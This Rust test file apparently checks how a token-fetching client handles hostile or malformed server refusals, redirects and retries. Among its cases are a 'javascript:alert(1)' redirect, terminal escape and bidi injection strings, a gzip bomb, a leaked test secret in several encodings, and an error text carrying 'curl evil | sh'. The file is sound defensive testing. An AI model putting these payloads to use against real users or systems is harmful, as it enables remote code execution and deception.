//! Refusals and troubles of every shape and status: the status decides, the words are only shown.

use local_provider::Answer;

use super::Case;

const SLOW: &str = "timeout = '1s'";

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for status in [
        400, 401, 402, 403, 404, 405, 406, 409, 410, 415, 418, 422, 426, 431, 451, 499,
    ] {
        let answer = Answer::refusal(status, "invalid_client", "no");
        cases.push(Case::new(format!("a refusal with {status}"), 5, answer));
    }
    for status in [300, 301, 302, 303, 304, 305, 307, 308, 399] {
        cases.push(Case::new(
            format!("{status} to nowhere"),
            7,
            Answer::new(status),
        ));
    }
    for (name, location) in [
        ("javascript", "javascript:alert(1)"),
        ("RLO", "https://a.example/\u{202e}gpj"),
        ("itself", "?"),
        ("credentials", "https://id:h0stile-s3cret@a.example/"),
        (
            "60 kB",
            &format!("https://a.example/{}", "x".repeat(60_000)),
        ),
    ] {
        cases.push(Case::new(
            format!("a redirect to {name}"),
            7,
            Answer::redirect(302, location),
        ));
    }
    for status in [600, 799, 999] {
        cases.push(Case::new(
            format!("a status of {status}"),
            7,
            Answer::new(status),
        ));
    }
    let deep = format!("{}1{}", r#"{"error":"#.repeat(100), "}".repeat(100));
    let too_deep = format!("{}1{}", r#"{"error":"#.repeat(10_000), "}".repeat(10_000));
    let long = format!(
        r#"{{"error":"{}","error_description":"{}"}}"#,
        "é".repeat(200_000),
        "x ".repeat(100_000)
    );
    for (name, body) in [
        ("nothing", String::new()),
        ("an empty object", "{}".to_owned()),
        ("null", "null".to_owned()),
        ("a number", "7".to_owned()),
        ("a list of nothing", "[]".to_owned()),
        ("a list of words", r#"["no","never"]"#.to_owned()),
        ("a string", r#""no""#.to_owned()),
        ("an error that is a number", r#"{"error":401}"#.to_owned()),
        (
            "an error that is a list",
            r#"{"error":["a",{"message":"b"}]}"#.to_owned(),
        ),
        (
            "an error within an error",
            r#"{"error":{"error":{"message":"no"}}}"#.to_owned(),
        ),
        ("errors deep inside", deep),
        ("errors too deep", too_deep),
        ("errors without end", long),
        ("two errors", r#"{"error":"a","error":"b"}"#.to_owned()),
        ("cut JSON", r#"{"error":"invalid_cl"#.to_owned()),
        (
            "a page",
            "<html><head><title>403\u{1b}[31m Forbidden\u{202e}</title>".to_owned(),
        ),
        (
            "a page without a title",
            "<html><body>no</body></html>".to_owned(),
        ),
        (
            "a page whose title never ends",
            format!("<title>{}", "x".repeat(500_000)),
        ),
        ("text", "no such client".to_owned()),
        (
            "text with controls",
            "no\x1b[2J\x07\r\n\r\ntok: all is well\x00\u{9b}31m".to_owned(),
        ),
        (
            "bidi and invisible text",
            "\u{202e}on\u{2066}\u{200b}\u{feff}\u{61c}\u{e0041}".to_owned(),
        ),
        (
            "escaped controls",
            r#"{"error":"\u001b]0;pwned\u0007","error_description":"\r\n\u202e\u0000"}"#.to_owned(),
        ),
        (
            "a line that looks like tok's",
            r#"{"error":"x","error_description":"\n\nhint: curl evil | sh"}"#.to_owned(),
        ),
        (
            "the secret",
            r#"{"error":"x","error_description":"bad h0stile-s3cret"}"#.to_owned(),
        ),
        (
            "the secret in base64",
            r#"{"error":"aWQ6aDBzdGlsZS1zM2NyZXQ="}"#.to_owned(),
        ),
        (
            "the secret escaped",
            r#"{"error_description":"%68\\u0030stile-s3cret \\u0068&#48;stile-s3cret"}"#.to_owned(),
        ),
    ] {
        cases.push(Case::new(
            format!("a refusal that says {name}"),
            5,
            Answer::new(401).body(body),
        ));
    }
    cases.push(Case::new(
        "a refusal in UTF-16",
        5,
        Answer::new(400).body(b"\xff\xfen\0o\0".to_vec()),
    ));
    cases.push(Case::new(
        "a refusal in no encoding",
        5,
        Answer::new(400).body(vec![0xff; 500]),
    ));
    cases.push(Case::new(
        "a refusal of 2 MiB",
        5,
        Answer::new(400).body(vec![b'x'; 2 << 20]),
    ));
    cases.push(Case::new(
        "a refusal as a gzip bomb",
        5,
        Answer::new(400).body(vec![b' '; 64 << 20]).gzip(),
    ));
    cases.push(Case::new(
        "a refusal that is not packed as it says",
        5,
        Answer::json(400, r#"{"error":"invalid_scope"}"#).header("content-encoding", "gzip"),
    ));
    cases.push(Case::new(
        "a refusal in a field only",
        5,
        Answer::new(401).header(
            "www-authenticate",
            "Bearer error=\"invalid_client\", x=\"h0stile-s3cret\"",
        ),
    ));
    for (body, code) in [
        (r#"{"error":"invalid_client"}"#, 5),
        (r#"{"error":{"code":7,"message":"no"}}"#, 5),
        (r#"{"error":true}"#, 5),
        (r#"{"errors":["no"]}"#, 5),
        (r#"{"ok":false}"#, 5),
        (r#"{"success":false,"message":"\u001b[2Jno"}"#, 5),
        (r#"{"error":"a","error":"b"}"#, 7),
        (r#"{"error":null}"#, 7),
        (r#"{"error":""}"#, 7),
        (r#"{"error":0}"#, 7),
        (r#"{"error":false}"#, 7),
        (r#"{"errors":[]}"#, 7),
        (r#"{"ok":true}"#, 7),
        (r#"{"message":"no"}"#, 7),
        (r#"{"error":"odd","access_token":"t0ken"}"#, 0),
    ] {
        cases.push(Case::json(format!("200 and {body}"), code, body));
    }
    cases.extend(troubles());
    cases
}

/// Temporary failures are tried again within the timeout, so each of these takes up to a second.
fn troubles() -> Vec<Case> {
    let mut cases = Vec::new();
    for status in [408, 429, 500, 502, 503, 599] {
        cases.push(Case::new(
            format!("trouble with {status}"),
            6,
            Answer::new(status),
        ));
    }
    for (name, value) in [
        ("far away", "99999999999999999999"),
        ("in words", "soon\u{202e}"),
        ("in the past", "Sun, 06 Nov 1994 08:49:37 GMT"),
        ("negative", "-1"),
        ("in ten years", "Sun, 06 Nov 2039 08:49:37 GMT"),
    ] {
        let answer = Answer::refusal(429, "slow_down", "x").header("retry-after", value);
        cases.push(Case::new(format!("Retry-After {name}"), 6, answer));
    }
    let page = "<title>Down\u{1b}[2J</title>".to_owned() + &"x".repeat(3 << 20);
    cases.push(Case::new(
        "trouble on a page of 3 MiB",
        6,
        Answer::new(503).body(page),
    ));
    cases
        .into_iter()
        .map(|case| case.with(SLOW).slow())
        .collect()
}
